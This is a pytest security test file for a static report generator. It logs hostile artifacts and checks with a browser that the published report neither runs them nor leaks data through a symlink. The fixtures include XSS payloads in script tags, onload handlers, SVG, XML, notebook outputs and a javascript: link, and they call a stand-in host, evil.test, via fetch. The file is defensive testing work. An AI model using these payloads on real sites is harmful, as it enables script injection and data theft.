"""Every file that a run left behind, opened by its own address: nothing of it runs on our origin.

A published report lies on some web server. Two kinds are tried: one that takes a file's type from
its name, as GitHub Pages does, and one that says no type for names it does not know, so that the
browser guesses from the bytes.
"""

from __future__ import annotations

import functools
import json
import shutil
import threading
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

PWN = "(window.opener || window).pwned = 1; fetch('https://evil.test/'); localStorage.pwned = 1"
SCRIPT = f"<script>{PWN}</script>"
PAGE = f'<!doctype html><html><body onload="{PWN}">{SCRIPT}</body></html>'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}">{SCRIPT}</svg>'
XML = f'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">{PWN}</x:script>'

PAGES = (
    *("a.html", "a.htm", "A.HTML", "a.xhtml", "a.shtml", "a.html.txt", "a.html.gz", "noext"),
    *("a.png", "a.pkl", "a.bin", "a.unknown", "a.pdf", "a.md", "a.csv", "a.json", "a.ipynb"),
    *("a.css", "a.mjs", "a.log", "a.yaml", ".hidden", "a b#c?.html", "index.html", "a.mhtml"),
)
FILES = {
    **dict.fromkeys(PAGES, PAGE),
    **dict.fromkeys(("a.svg", "pic", "a.svg.png", "b.svgz"), SVG),
    **dict.fromkeys(("a.xml", "a.xsl", "a.rss", "a.atom", "x.mathml"), XML),
    "spaced.bin": "\n \t" + PAGE,
    "marked.bin": "\ufeff" + PAGE,
    "comment.bin": f"<!-- x -->{PAGE}",
    "late.md": f"# Title\n\n{SCRIPT}\n[x](javascript:{PWN})\n",
    "notebook.ipynb": json.dumps({
        "nbformat": 4, "nbformat_minor": 5, "metadata": {},
        "cells": [
            {"cell_type": "markdown", "metadata": {}, "source": SCRIPT},
            {"cell_type": "code", "metadata": {}, "source": "x", "execution_count": 1, "outputs": [
                {"output_type": "display_data", "metadata": {},
                 "data": {"text/html": PAGE, "image/svg+xml": SVG, "application/javascript": PWN}},
            ]},
        ],
    }),
    "table.json": json.dumps({"columns": [SCRIPT], "data": [[PAGE], [{"type": "image", "filepath":
                  "https://evil.test/a.png"}]]}),
    "chart.vl.json": json.dumps({
        "$schema": "https://vega.github.io/schema/vega-lite/v5.json", "mark": "image",
        "data": {"url": "https://evil.test/d.csv"}, "encoding": {"url": {"field": "u"}},
    }),
    "figure.json": json.dumps({
        "data": [{"type": "scatter", "x": [1], "y": [1], "text": [PAGE]}],
        "layout": {"images": [{"source": "https://evil.test/a.png"}], "title": {"text": SCRIPT}},
    }),
    ".htaccess": "AddType text/html .txt\n",
    "web.config": "<configuration/>",
}  # fmt: skip

MAKE = """
import json, sys
from pathlib import Path
import reporter
reporter.set_tracking_uri(sys.argv[1])
with reporter.start_run(run_name="<script>window.pwned = 1</script>"):
    for path, text in json.loads(Path(sys.argv[2]).read_text("utf-8")).items():
        reporter.log_text(text, path)
"""


class _Guessing(SimpleHTTPRequestHandler):
    """Says no type where the name says none."""

    def log_message(self, *_: object) -> None:
        """Say nothing."""

    def send_header(self, keyword: str, value: str) -> None:
        """Send what is known."""
        if (keyword.lower(), value) != ("content-type", "application/octet-stream"):
            super().send_header(keyword, value)


class _Naming(SimpleHTTPRequestHandler):
    """Takes the type from the name."""

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def site(run_python, report, tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "files.json").write_text(json.dumps(FILES), encoding="utf-8")
    made = run_python("-c", MAKE, str(folder / "runs"), str(folder / "files.json"))
    assert made.returncode == 0, made.stderr
    (link,) = folder.glob("runs/*/*/artifacts")
    (folder / "secret.txt").write_text("SECRET", encoding="utf-8")
    (link / "way_out.txt").symlink_to(folder / "secret.txt")
    built = report("build", str(folder / "runs"), "-o", str(folder / "site"))
    assert built.returncode == 0, built.stdout + built.stderr
    return folder / "site"


@pytest.fixture(params=[_Naming, _Guessing], ids=["by-name", "by-content"])
def root(request, site):
    server = ThreadingHTTPServer(
        ("127.0.0.1", 0), functools.partial(request.param, directory=str(site))
    )
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()


def outside(asked: list[str], root: str) -> list[str]:
    """Return what left the site; the browser's viewer of PDF has addresses of its own kind."""
    return [url for url in asked if url.startswith(("http", "ws", "ftp")) and root not in url]


def visit(page, address: str) -> str:
    """Open an address; say what kind of document the browser made of it."""
    from playwright.sync_api import Error

    try:
        page.goto(address, wait_until="load")
    except Error as error:
        if not any(word in str(error) for word in ("Download is starting", "ERR_ABORTED")):
            raise
        return "download"
    return page.evaluate("document.contentType")


def test_nothing_that_was_logged_runs_when_it_is_opened_directly(site, root, browser):
    context = browser.new_context()
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    page = context.new_page()
    kinds = {}
    files = sorted(path for path in (site / "artifacts").rglob("*") if path.is_file())
    assert len(files) >= len(FILES)
    for path in files:
        place = path.relative_to(site).as_posix()
        kind = visit(page, root + "/".join(map(quoted, place.split("/"))))
        kinds[place.split("/", 2)[2]] = kind
        if kind != "download":
            assert page.evaluate("window.pwned") is None, place
    visit(page, f"{root}index.html")
    assert page.evaluate("localStorage.pwned") is None
    assert outside(asked, root) == []
    ours = {name for name, kind in kinds.items() if kind == "text/html"}
    assert all(name.endswith(".view.html") for name in ours)
    assert any(name.endswith(".view.svg") for name in kinds)
    assert not any(name.lower().endswith((".html", ".svg", ".xml")) and ".view." not in name
                   for name in kinds)  # fmt: skip
    context.close()


def quoted(part: str) -> str:
    from urllib.parse import quote

    return quote(part)


def test_no_page_of_the_report_runs_what_was_logged(site, root, browser):
    context = browser.new_context()
    asked: list[str] = []
    said: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    context.on("console", lambda message: said.append(message.text))
    page = context.new_page()
    (run,) = (site / "run").glob("*.html")
    page.goto(f"{root}run/{run.name}")
    for link in page.locator("[data-preview]").all():
        link.click()
    for button in page.get_by_role("button", name="Show this page").all():
        if button.is_visible():
            button.click()
    page.wait_for_timeout(500)
    assert page.evaluate("[window.pwned, localStorage.pwned]") == [None, None]
    assert page.locator("iframe:not([sandbox='allow-scripts'])").count() == 0
    assert outside(asked, root) == []
    (experiment,) = (site / "experiment").glob("*/index.html")
    page.goto(f"{root}{experiment.relative_to(site).as_posix()}#v=1&tab=images")
    page.locator(".gal figure").first.wait_for()
    assert page.evaluate("window.pwned") is None
    context.close()


def test_a_link_out_of_the_run_is_not_followed(site):
    copies = [path for path in site.rglob("*") if path.is_file()]
    assert not any(b"SECRET" in path.read_bytes() for path in copies)
    assert not any(path.is_symlink() for path in site.rglob("*"))


def test_a_name_of_the_reports_own_is_not_taken(site, tmp_path):
    """A page logged as index.html lies beside the others, as a text."""
    shutil.copytree(site, tmp_path / "copy")
    (raw,) = (tmp_path / "copy" / "artifacts").rglob("index.html.txt")
    assert raw.read_text("utf-8") == PAGE
